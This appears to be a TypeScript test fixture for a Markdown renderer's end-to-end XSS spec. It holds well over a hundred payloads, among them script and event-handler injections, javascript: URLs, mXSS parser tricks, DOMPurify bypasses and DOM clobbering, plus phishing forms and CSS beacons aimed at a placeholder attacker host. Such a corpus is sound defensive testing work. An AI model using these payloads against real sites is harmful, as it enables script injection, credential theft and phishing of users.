/**
 * Hostile Markdown: XSS payloads served by the real service as issue bodies,
 * comment bodies, titles, label names and descriptions, milestone titles and
 * logins (e2e/hostile-markdown.spec.ts). A payload that runs sets
 * `window.__pwned` or opens a dialog; one that escapes the sanitiser in any
 * other way leaves an attribute or element the spec's DOM scan refuses, or
 * makes a request to ATTACKER_ORIGIN.
 *
 * Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat
 * sheet, Cure53's DOMPurify mXSS tests, and GitHub's own sanitising rules.
 */

/** A reserved name (RFC 2606 `.invalid`): nothing real answers there, and any request to it is the spec's to judge. */
export const ATTACKER_ORIGIN = 'https://attacker.invalid';

export interface XssPayload {
  /** unique, kebab-case: names the test and the issue */
  id: string;
  /** what the payload tries */
  note: string;
  markdown: string;
  /** text a correct renderer shows in the body (code spans, escapes), so a renderer that drops everything fails */
  expectText?: string;
}

const A = ATTACKER_ORIGIN;
/** What a payload runs when it gets the chance. */
const RUN = 'window.__pwned=1';

export const XSS_CORPUS: readonly XssPayload[] = [
  // <script>, every way
  { id: 'script-plain', note: 'a plain script element', markdown: `<script>${RUN};alert(1)</script>` },
  { id: 'script-mixed-case', note: 'mixed-case tag names', markdown: `<ScRiPt>${RUN}</sCrIpT>` },
  { id: 'script-split', note: 'a tag split by a nested tag, for filters that strip once', markdown: `<scr<script>ipt>${RUN}</scr</script>ipt>` },
  { id: 'script-src', note: 'an external script', markdown: `<script src="${A}/x.js"></script>` },
  { id: 'script-in-svg', note: 'a script in the SVG namespace', markdown: `<svg><script>${RUN}</script></svg>` },
  { id: 'script-svg-href', note: 'an SVG script with a data: href', markdown: `<svg><script href="data:,${RUN}"></script></svg>` },
  { id: 'script-module', note: 'a module script', markdown: `<script type="module">${RUN}</script>` },
  { id: 'script-unclosed', note: 'a script never closed', markdown: `<script>${RUN}` },
  { id: 'script-in-emphasis', note: 'a script inside Markdown emphasis', markdown: `*<script>${RUN}</script>*` },
  { id: 'script-in-list', note: 'a script inside a list item', markdown: `- item <script>${RUN}</script>` },
  { id: 'script-in-table', note: 'a script inside a GFM table cell', markdown: `| a |\n|---|\n| <script>${RUN}</script> |` },

  // Event handlers
  { id: 'img-onerror', note: 'the classic broken image', markdown: `<img src=x onerror="${RUN};alert(1)">` },
  { id: 'img-onerror-slashes', note: 'slashes instead of spaces', markdown: `<img/src=x/onerror=${RUN}>` },
  { id: 'img-onerror-entities', note: 'an entity-encoded handler body', markdown: `<img src=x onerror="&#119;indow.__pwned=1">` },
  { id: 'img-onload-https', note: 'onload on an https image the policy lets load', markdown: `<img src="${A}/pixel.png" onload="${RUN}">` },
  { id: 'img-eval-src', note: 'a handler that evaluates its own src', markdown: `<img src="x:${RUN}" onerror="eval(src.slice(2))">` },
  { id: 'svg-onload', note: 'onload on svg', markdown: `<svg onload="${RUN}"></svg>` },
  { id: 'svg-onload-slash', note: 'svg/onload without quotes', markdown: `<svg/onload=${RUN}>` },
  { id: 'body-onload', note: 'a second body with onload', markdown: `<body onload="${RUN}">text</body>` },
  { id: 'body-onpageshow', note: 'onpageshow on body', markdown: `<body onpageshow="${RUN}">` },
  { id: 'details-ontoggle', note: 'an open details fires toggle on its own', markdown: `<details open ontoggle="${RUN}"><summary>x</summary>y</details>` },
  { id: 'video-onerror', note: 'a video that fails to load', markdown: `<video src=x onerror="${RUN}"></video>` },
  { id: 'video-source-onerror', note: 'onerror on a source child', markdown: `<video><source onerror="${RUN}"></video>` },
  { id: 'audio-onerror', note: 'an audio that fails to load', markdown: `<audio src=x onerror="${RUN}"></audio>` },
  { id: 'iframe-onload', note: 'onload on an empty iframe', markdown: `<iframe onload="${RUN}"></iframe>` },
  { id: 'input-onfocus-autofocus', note: 'focus without a click', markdown: `<input onfocus="${RUN}" autofocus>` },
  { id: 'select-onfocus-autofocus', note: 'a select that focuses itself', markdown: `<select onfocus="${RUN}" autofocus><option>a</option></select>` },
  { id: 'textarea-onfocus-autofocus', note: 'a textarea that focuses itself', markdown: `<textarea onfocus=${RUN} autofocus>x</textarea>` },
  { id: 'marquee-onstart', note: 'marquee fires start on its own', markdown: `<marquee onstart="${RUN}">x</marquee>` },
  { id: 'div-onmouseover', note: 'a handler waiting for the pointer', markdown: `<div onmouseover="${RUN}">hover me</div>` },
  { id: 'a-onclick', note: 'a harmless link with a click handler', markdown: `<a href="https://example.com/" onclick="${RUN}">click</a>` },
  { id: 'object-onerror', note: 'onerror on object', markdown: `<object data=x onerror="${RUN}"></object>` },
  { id: 'style-onload', note: 'onload on a style element', markdown: `<style onload="${RUN}"></style>` },
  { id: 'animation-start', note: 'a CSS animation that fires a handler', markdown: `<div style="animation:spin 1s" onanimationstart="${RUN}">x</div>` },
  { id: 'md-link-title-breakout', note: 'a Markdown link title that closes its attribute', markdown: `[a](https://example.com/ "x\\" onmouseover=\\"${RUN}")` },
  { id: 'md-image-title-breakout', note: 'a Markdown image title that closes its attribute', markdown: `![a](${A}/t.png "x\\" onerror=\\"${RUN}")` },

  // javascript:, data:, vbscript: in Markdown
  { id: 'md-link-javascript', note: 'an inline link', markdown: `[click](javascript:${RUN})` },
  { id: 'md-link-javascript-angle', note: 'an angle-bracketed destination', markdown: `[click](<javascript:${RUN}>)` },
  { id: 'md-link-javascript-case', note: 'a mixed-case scheme', markdown: `[click](JaVaScRiPt:${RUN})` },
  { id: 'md-link-data-html', note: 'a data: HTML document', markdown: '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)' },
  { id: 'md-link-vbscript', note: 'vbscript:', markdown: '[click](vbscript:msgbox(1))' },
  { id: 'md-link-entity-dec', note: 'a decimal entity for the first letter', markdown: `[click](&#106;avascript:${RUN})` },
  { id: 'md-link-entity-hex', note: 'a hex entity for the first letter', markdown: `[click](&#x6A;avascript:${RUN})` },
  { id: 'md-link-entity-tab', note: 'a named tab entity inside the scheme', markdown: `[click](java&Tab;script:${RUN})` },
  { id: 'md-link-entity-newline', note: 'a named newline entity inside the scheme', markdown: `[click](java&NewLine;script:${RUN})` },
  { id: 'md-link-entity-colon', note: 'an entity for the colon', markdown: `[click](javascript&colon;${RUN})` },
  { id: 'md-link-comment-newline', note: 'javascript://%0a: a comment then a newline', markdown: `[click](javascript://%0a${RUN})` },
  { id: 'md-ref-link-javascript', note: 'a reference link', markdown: `[click][x]\n\n[x]: javascript:${RUN}` },
  { id: 'md-ref-link-data', note: 'a reference link to data:', markdown: '[click][x]\n\n[x]: data:text/html,<script>alert(1)</script>' },
  { id: 'md-autolink-javascript', note: 'an autolink', markdown: `<javascript:${RUN}>` },
  { id: 'md-autolink-data', note: 'a data: autolink', markdown: '<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>' },
  { id: 'md-autolink-vbscript', note: 'a vbscript: autolink', markdown: '<vbscript:msgbox(1)>' },
  { id: 'md-image-javascript', note: 'an image source', markdown: `![x](javascript:${RUN})` },
  { id: 'md-image-data-svg', note: 'a data: SVG image with onload', markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)' },
  { id: 'md-image-ref-vbscript', note: 'a reference image', markdown: '![x][i]\n\n[i]: vbscript:msgbox(1)' },
  { id: 'md-image-http', note: 'a plain-http image (the policy allows https images only)', markdown: `![tracker](http://attacker.invalid/http-pixel.png)` },

  // ... and in raw HTML
  { id: 'a-javascript', note: 'a raw link', markdown: `<a href="javascript:${RUN}">x</a>` },
  { id: 'a-javascript-tab', note: 'a literal tab inside the scheme', markdown: `<a href="java\tscript:${RUN}">x</a>` },
  { id: 'a-javascript-newline', note: 'a literal newline inside the scheme', markdown: `<a href="java\nscript:${RUN}">x</a>` },
  { id: 'a-javascript-nul', note: 'a NUL inside the scheme', markdown: `<a href="java\x00script:${RUN}">x</a>` },
  { id: 'a-javascript-control-prefix', note: 'a control character and space before the scheme', markdown: `<a href="\x01 javascript:${RUN}">x</a>` },
  { id: 'a-javascript-entities-all', note: 'every letter an entity', markdown: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}">x</a>` },
  { id: 'a-javascript-entities-nosemicolon', note: 'hex entities without semicolons', markdown: `<a href="&#x6A&#x61&#x76&#x61script:${RUN}">x</a>` },
  { id: 'a-javascript-entities-zeros', note: 'entities padded with zeros', markdown: `<a href="&#0000106avascript:${RUN}">x</a>` },
  { id: 'a-javascript-entity-tab', note: 'a tab entity inside the scheme', markdown: `<a href="jav&#x09;ascript:${RUN}">x</a>` },
  { id: 'a-javascript-entity-colon', note: 'a named colon entity', markdown: `<a href="javascript&colon;${RUN}">x</a>` },
  { id: 'a-javascript-upper', note: 'an upper-case scheme', markdown: `<A HREF="JAVASCRIPT:${RUN}">x</A>` },
  { id: 'a-data-html', note: 'a data: document', markdown: `<a href="data:text/html,<script>${RUN}</script>">x</a>` },
  { id: 'a-vbscript', note: 'vbscript:', markdown: '<a href="vbscript:msgbox(1)">x</a>' },
  { id: 'a-fullwidth-scheme', note: 'full-width letters that some parsers fold', markdown: `<a href="ｊａｖａｓｃｒｉｐｔ:${RUN}">x</a>` },
  { id: 'a-ping', note: 'a ping beacon to another origin', markdown: `<a href="https://example.com/" ping="${A}/ping">x</a>` },
  { id: 'img-javascript', note: 'a raw image source', markdown: `<img src="javascript:${RUN}">` },
  { id: 'img-srcset-javascript', note: 'a srcset candidate', markdown: `<img srcset="javascript:${RUN} 1x" alt="s">` },
  { id: 'img-data-svg', note: 'a data: SVG with an onload', markdown: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">` },
  { id: 'img-usemap-area', note: 'an image map area', markdown: `<map name="m"><area shape="rect" coords="0,0,50,50" href="javascript:${RUN}"></map><img usemap="#m" src="${A}/map.png" alt="map">` },
  { id: 'form-action-javascript', note: 'a form posting to javascript:', markdown: `<form action="javascript:${RUN}"><button>go</button></form>` },
  { id: 'form-action-external', note: 'a phishing form to another origin', markdown: `<form action="${A}/steal" method="post"><input name="token" placeholder="Paste your token"><button>Sign in</button></form>` },
  { id: 'button-formaction', note: 'formaction on a button', markdown: `<button formaction="javascript:${RUN}">go</button>` },
  { id: 'input-formaction', note: 'formaction on a submit input', markdown: `<input type="submit" formaction="javascript:${RUN}" value="go">` },
  { id: 'input-image', note: 'an image input loading from another origin', markdown: `<input type="image" src="${A}/btn.png" alt="b">` },
  { id: 'object-data-javascript', note: 'object data javascript:', markdown: `<object data="javascript:${RUN}"></object>` },
  { id: 'object-data-html', note: 'object data with an HTML document', markdown: `<object data="data:text/html,<script>parent.__pwned=1</script>"></object>` },
  { id: 'embed-src', note: 'embed src javascript:', markdown: `<embed src="javascript:${RUN}">` },
  { id: 'embed-external', note: 'embed from another origin', markdown: `<embed src="${A}/x.swf">` },
  { id: 'iframe-src-javascript', note: 'iframe src javascript:', markdown: `<iframe src="javascript:parent.__pwned=1"></iframe>` },
  { id: 'iframe-srcdoc', note: 'iframe srcdoc with a script', markdown: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { id: 'iframe-external', note: 'a frame from another origin', markdown: `<iframe src="${A}/"></iframe>` },
  { id: 'base-href', note: 'a base that redirects relative URLs', markdown: `<base href="${A}/">` },
  { id: 'meta-refresh-javascript', note: 'a refresh to javascript:', markdown: `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">` },
  { id: 'meta-refresh-external', note: 'a refresh to another origin', markdown: `<meta http-equiv="refresh" content="0;url=${A}/">` },
  { id: 'meta-csp-override', note: 'a meta CSP that tries to relax nothing but still should not land', markdown: `<meta http-equiv="Content-Security-Policy" content="script-src *">` },
  { id: 'link-import', note: 'an HTML import', markdown: `<link rel="import" href="${A}/x.html">` },
  { id: 'link-stylesheet', note: 'an external stylesheet', markdown: `<link rel="stylesheet" href="${A}/x.css">` },
  { id: 'link-prefetch', note: 'a prefetch beacon', markdown: `<link rel="prefetch" href="${A}/prefetch">` },
  { id: 'style-import', note: 'a stylesheet import', markdown: `<style>@import "${A}/x.css";</style>` },
  { id: 'style-exfiltration', note: 'attribute selectors that beacon what an input holds', markdown: `<style>input[value^="a"]{background:url(${A}/a)}</style>` },
  { id: 'style-attr-url-javascript', note: 'a javascript: URL in a style', markdown: `<div style="background:url(javascript:${RUN})">x</div>` },
  { id: 'style-attr-url-external', note: 'a tracking background', markdown: `<div style="background-image:url(${A}/track.png)">x</div>` },
  { id: 'style-attr-expression', note: 'an old IE expression()', markdown: `<div style="width:expression(${RUN})">x</div>` },
  { id: 'style-attr-overlay', note: 'a full-page overlay to fake the UI', markdown: '<div style="position:fixed;inset:0;z-index:9999;background:white">Session expired, sign in again</div>' },
  { id: 'background-attr', note: 'a legacy background attribute', markdown: `<table background="${A}/bg.png"><tr><td>x</td></tr></table>` },
  { id: 'video-poster', note: 'a poster image from another origin', markdown: `<video poster="${A}/poster.png"></video>` },

  // SVG and MathML
  { id: 'svg-a-xlink-href', note: 'an SVG link with xlink:href', markdown: `<svg><a xlink:href="javascript:${RUN}"><text y="20">x</text></a></svg>` },
  { id: 'svg-animate-onbegin', note: 'an animation that fires onbegin', markdown: `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"></animate></svg>` },
  { id: 'svg-set-href', note: 'set rewriting an href to javascript:', markdown: `<svg><a><set attributeName="href" to="javascript:${RUN}"/><text y="20">x</text></a></svg>` },
  { id: 'svg-animate-values-href', note: 'animate values rewriting an href', markdown: `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>` },
  { id: 'svg-foreignobject', note: 'HTML inside foreignObject', markdown: `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>` },
  { id: 'svg-use-external', note: 'use referencing another origin', markdown: `<svg><use href="${A}/x.svg#a"/></svg>` },
  { id: 'svg-style-import', note: 'a style import inside svg', markdown: `<svg><style>@import url(${A}/x.css)</style></svg>` },
  { id: 'math-href', note: 'MathML href', markdown: `<math href="javascript:${RUN}"><mi>x</mi></math>` },
  { id: 'math-maction', note: 'maction with xlink:href', markdown: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>` },
  { id: 'math-namespace-confusion', note: 'mglyph/style namespace confusion (DOMPurify 2.0.0 bypass)', markdown: `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">` },
  { id: 'math-form-confusion', note: 'nested forms and math (DOMPurify 2.2.2 bypass)', markdown: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">` },

  // Parser differentials and mXSS
  { id: 'noscript-differential', note: 'noscript parses differently with scripting on', markdown: `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` },
  { id: 'template-content', note: 'template content is inert until cloned', markdown: `<template><img src=x onerror="${RUN}"></template>` },
  { id: 'template-script', note: 'a script inside template', markdown: `<template><script>${RUN}</script></template>` },
  { id: 'comment-short-close', note: '<!--> closes a comment at once', markdown: `<!--><script>${RUN}</script>-->` },
  { id: 'comment-bang-close', note: '--!> also closes a comment', markdown: `<!-- x --!><img src=x onerror="${RUN}">-->` },
  { id: 'bogus-comment', note: 'a processing instruction is a bogus comment', markdown: `<? <img src=x onerror="${RUN}"> ?>` },
  { id: 'cdata-in-html', note: 'CDATA is a comment outside foreign content', markdown: `<![CDATA[<img src=x onerror="${RUN}">]]>` },
  { id: 'svg-style-mxss', note: 'style text reparsed as HTML after serialisation', markdown: `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">` },
  { id: 'textarea-rcdata', note: 'textarea content closes early', markdown: `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>` },
  { id: 'title-rcdata', note: 'title content closes early', markdown: `<title><img title="</title><img src=x onerror=${RUN}>"></title>` },
  { id: 'xmp-rawtext', note: 'xmp raw text closes early', markdown: `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>` },
  { id: 'noembed-rawtext', note: 'noembed raw text', markdown: `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>` },
  { id: 'noframes-rawtext', note: 'noframes raw text', markdown: `<noframes><img title="</noframes><img src=x onerror=${RUN}>"></noframes>` },
  { id: 'iframe-rawtext', note: 'iframe content is raw text', markdown: `<iframe><img title="</iframe><img src=x onerror=${RUN}>"></iframe>` },
  { id: 'plaintext', note: 'plaintext swallows the rest', markdown: `<plaintext><img src=x onerror=${RUN}>` },
  { id: 'unclosed-img', note: 'an image tag never closed', markdown: `<img src=x onerror=${RUN}` },
  { id: 'unclosed-attribute', note: 'an attribute never closed', markdown: `<a href="javascript:${RUN}\nnext line` },
  { id: 'backtick-attribute', note: 'IE backtick attribute quoting', markdown: '<img src=`x` onerror=`window.__pwned=1`>' },

  // DOM clobbering
  { id: 'clobber-location', note: 'an element named location', markdown: `<a id="location" href="${A}/">x</a><a name="location" href="${A}/">y</a>` },
  { id: 'clobber-document', note: 'an image named document', markdown: '<img name="document" src="/favicon.svg" alt="d"><form name="document"></form>' },
  { id: 'clobber-pwned-id', note: 'two ids make window.__pwned a collection', markdown: '<a id="__pwned">a</a><a id="__pwned">b</a>' },
  { id: 'clobber-pwned-name', note: 'a named image becomes window.__pwned', markdown: '<img name="__pwned" src="/favicon.svg" alt="n"><a name="__pwned">n</a>' },
  { id: 'clobber-app-root', note: "the app's own mount point", markdown: '<div id="root">clobbered</div>' },
  { id: 'clobber-footnote-name', note: 'a footnote named after a global', markdown: 'x[^__pwned]\n\n[^__pwned]: note' },
  { id: 'clobber-heading-id', note: 'a heading whose slug is a global', markdown: '# __pwned' },

  // Tab-nabbing and links
  { id: 'target-blank-no-rel', note: 'target=_blank without rel: the page could rewrite window.opener', markdown: `<a href="${A}/" target="_blank">x</a>` },
  { id: 'target-rel-opener', note: 'asks for an opener explicitly', markdown: `<a href="${A}/" target="_blank" rel="opener">x</a>` },
  { id: 'protocol-relative', note: 'a protocol-relative link', markdown: '<a href="//attacker.invalid/x">x</a>' },

  // Markdown that must stay text, and nesting tricks
  { id: 'code-span-html', note: 'HTML in a code span is text', markdown: `\`<script>${RUN}</script>\``, expectText: `<script>${RUN}</script>` },
  { id: 'code-block-html', note: 'HTML in a fenced block is text', markdown: `\`\`\`html\n<img src=x onerror="${RUN}">\n\`\`\``, expectText: `<img src=x onerror="${RUN}">` },
  { id: 'escaped-html', note: 'an escaped tag is text', markdown: `\\<img src=x onerror=${RUN}>`, expectText: `<img src=x onerror=${RUN}>` },
  { id: 'link-in-image-alt', note: 'a link inside an image alt', markdown: `![[a](javascript:${RUN})](${A}/alt.png)` },
  { id: 'image-in-link', note: 'an image inside a javascript: link', markdown: `[![x](${A}/in-link.png)](javascript:${RUN})` },
  { id: 'html-in-link-text', note: 'HTML inside link text', markdown: `[<img src=x onerror="${RUN}">](https://example.com/)` },
  { id: 'html-in-link-title', note: 'HTML inside a link title', markdown: `[a](https://example.com/ "<img src=x onerror=${RUN}>")` },
  { id: 'html-block-markdown-inside', note: 'Markdown inside an HTML block', markdown: `<div>\n\n[x](javascript:${RUN})\n\n</div>` },
  { id: 'footnote-html', note: 'HTML in a footnote', markdown: `x[^1]\n\n[^1]: <img src=x onerror="${RUN}">` },
  { id: 'alert-html', note: 'HTML in a GitHub alert', markdown: `> [!WARNING]\n> <img src=x onerror="${RUN}">` },
  { id: 'alert-class-forgery', note: "a forged alert, to borrow the app's styling", markdown: '<div class="markdown-alert markdown-alert-caution"><p class="markdown-alert-title">Caution</p>Your token expired</div>' },
  { id: 'task-list-html', note: 'HTML in a task-list item', markdown: `- [ ] <img src=x onerror="${RUN}">` },
  { id: 'checkbox-onclick', note: 'a raw checkbox with a handler', markdown: `<input type="checkbox" checked onclick="${RUN}">` },
  { id: 'mention-html', note: 'a mention followed by HTML', markdown: `@mona<img src=x onerror="${RUN}">` },
  { id: 'issue-ref-html', note: 'an issue reference followed by a script', markdown: `#1<script>${RUN}</script>` },
  { id: 'heading-link-javascript', note: 'a heading wrapping a javascript: link', markdown: `## <a href="javascript:${RUN}">heading</a>` },
  { id: 'keygen-autofocus', note: 'an obsolete element with autofocus', markdown: `<keygen autofocus onfocus="${RUN}">` },
  { id: 'isindex-action', note: 'an obsolete isindex', markdown: `<isindex action="javascript:${RUN}" type="image">` },
  { id: 'dialog-open', note: 'a dialog that covers the page', markdown: '<dialog open>Your session expired</dialog>' },
  { id: 'popover', note: 'a popover over the app', markdown: '<div popover="manual" id="p">x</div><button popovertarget="p">open</button>' },
];
